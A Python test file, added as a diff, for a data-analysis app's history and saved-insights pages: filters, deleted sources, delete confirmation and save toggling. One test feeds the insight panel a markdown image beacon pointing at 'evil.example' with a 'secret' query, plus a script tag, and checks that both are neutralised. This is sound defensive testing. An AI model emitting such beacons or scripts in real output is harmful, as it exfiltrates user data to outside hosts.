@@ -1,0 +1,143 @@
+"""History and saved insights pages without a browser: filters, deleted sources, delete, save/unsave."""
+
+from __future__ import annotations
+
+import pytest
+import reflex as rx
+from reflex.istate.data import RouterData
+
+from lumiere.db import session_scope
+from lumiere.llm.base import CannotAnswer
+from lumiere.services import ask, insights, sources
+from lumiere.services.auth import issue_token, register_user
+from lumiere.state.history import HistoryState, history_row
+from lumiere.state.insights import InsightsState
+from lumiere.state.query import QueryState
+
+
+def _state(cls, token: str, url: str):  # noqa: ANN001, ANN202
+    root = rx.State(_reflex_internal_init=True)
+    root.router = RouterData.from_router_data({"pathname": url, "asPath": url, "query": {}, "headers": {}})
+    state = root.get_substate(cls.get_full_name().split(".")[1:])
+    state.token = token
+    return state
+
+
+@pytest.fixture()
+def asked(app_db):  # noqa: ANN001, ANN201
+    """A user with two sources, a good answer on each and a failed question on the first."""
+    with session_scope() as session:
+        user = register_user(session, email="historian@example.com", password="correct horse", name="Historian")
+        first = sources.load_sample_dataset(session, user).id
+        second = sources.load_sample_dataset(session, user).id
+        good = ask.ask_question(session, user, source_id=first, question="How many rows are there for each continent?")
+        other = ask.ask_question(session, user, source_id=second, question="How many rows are there?")
+        ids = {"first": first, "second": second, "good": good.query.id, "other": other.query.id}
+        session.expunge(user)
+    with pytest.raises(CannotAnswer), session_scope() as session:
+        ask.ask_question(session, user, source_id=first, question="zzz qqq xyzzy")
+    return user, issue_token(user).access_token, ids
+
+
+def test_filters_search_status_and_source(asked):
+    _, token, ids = asked
+    state = _state(HistoryState, token, "/history")
+    state.load()
+    assert state.total == 3 and [item["status"] for item in state.items] == ["error", "ok", "ok"]
+    assert {item["id"]: item["name"] for item in state.filter_sources} == {
+        str(ids["first"]): "gapminder", str(ids["second"]): "gapminder"
+    }
+
+    state.set_search("CONTINENT")
+    assert [item["id"] for item in state.items] == [str(ids["good"])]
+    state.set_search("group by")  # matches the SQL, not the question
+    assert [item["id"] for item in state.items] == [str(ids["good"])]
+    state.clear_filters()
+    state.set_status_filter("error")
+    assert [item["status_label"] for item in state.items] == ["Failed"] and state.items[0]["error"]
+    state.set_status_filter("bogus")
+    assert state.status_filter == "all" and state.total == 3
+    state.set_source_filter(str(ids["second"]))
+    assert [item["id"] for item in state.items] == [str(ids["other"])]
+    assert state.filtered
+    state.set_date_from("2999-01-01")
+    assert state.items == [] and state.total == 0
+    state.set_date_from("not a date")
+    assert state.date_from == "" and state.total == 1
+
+
+def test_deleted_sources_are_named_and_entries_can_be_deleted(asked):
+    user, token, ids = asked
+    with session_scope() as session:
+        sources.delete_source(session, user, ids["second"])
+    state = _state(HistoryState, token, "/history")
+    state.load()
+    gone = next(item for item in state.items if item["id"] == str(ids["other"]))
+    assert gone["source_gone"] == "gone" and gone["source_name"] == "gapminder"
+    assert str(ids["second"]) not in {item["id"] for item in state.filter_sources}
+
+    state.ask_delete(str(ids["good"]), "How many rows are there for each continent?")
+    assert state.confirming_delete
+    state.cancel_delete()
+    assert state.total == 3
+    state.ask_delete(str(ids["good"]), "How many rows are there for each continent?")
+    state.confirm_delete()
+    assert state.total == 2 and str(ids["good"]) not in {item["id"] for item in state.items}
+    assert f"'/query?rerun={ids['other']}'" in str(state.rerun(str(ids["other"])))
+
+
+def test_history_rows_read_as_text():
+    row = history_row(
+        {"id": 3, "question": "", "sql": "SELECT  1\n FROM t", "status": "refused", "error": "Only SELECT.",
+         "source_name": "s", "source_exists": True, "origin": "sql", "row_count": None, "duration_ms": 1234,
+         "created_at": "2025-03-01T14:05:09Z"}
+    )
+    assert row == {
+        "id": "3", "question": "(SQL written by hand)", "sql": "SELECT 1 FROM t", "status": "refused",
+        "status_label": "Refused", "error": "Only SELECT.", "source_name": "s", "source_gone": "",
+        "origin": "Edited SQL", "rows": "", "duration": "1,234 ms", "created": "2025-03-01 14:05 UTC",
+    }
+
+
+def test_saved_insights_list_unsave_and_delete(asked):
+    user, token, ids = asked
+    with session_scope() as session:
+        insight = insights.create_insight(session, user, ids["good"])
+        insights.set_saved(session, user, insight.id, True)
+        insight_id = insight.id
+    page = _state(InsightsState, token, "/insights")
+    page.load()
+    assert [(item["id"], item["question"]) for item in page.saved_items] == [
+        (str(insight_id), "How many rows are there for each continent?")
+    ]
+    assert "Africa" in page.saved_items[0]["text"]
+
+    page.unsave(str(insight_id))
+    assert page.saved_items == []
+    with session_scope() as session:
+        insights.set_saved(session, user, insight_id, True)
+    page.load()
+    page.ask_delete(str(insight_id))
+    page.confirm_delete()
+    assert page.saved_items == [] and not page.confirming_delete
+    with session_scope() as session:
+        assert insights.list_insights(session, user) == []
+
+
+def test_the_insight_panel_shows_text_inert_and_toggles_saved(asked):
+    user, token, ids = asked
+    with session_scope() as session:
+        insight = insights.public_insight(insights.create_insight(session, user, ids["good"]))
+    panel = _state(QueryState, token, "/query")
+    panel._prepare_insight(ids["good"])
+    panel._show_insight({**insight, "text": insight["text"] + "\n\n![x](http://evil.example/?q=secret) <script>x</script>"})
+    assert "![x](" not in panel.insight_text and "<script>" not in panel.insight_text
+    assert "`http://evil.example/?q=secret`" in panel.insight_text
+    assert not panel.insight_busy and not panel.insight_saved
+
+    panel.toggle_insight_saved()
+    assert panel.insight_saved
+    with session_scope() as session:
+        assert [item.id for item in insights.list_insights(session, user, saved=True)] == [insight["id"]]
+    panel.toggle_insight_saved()
+    assert not panel.insight_saved
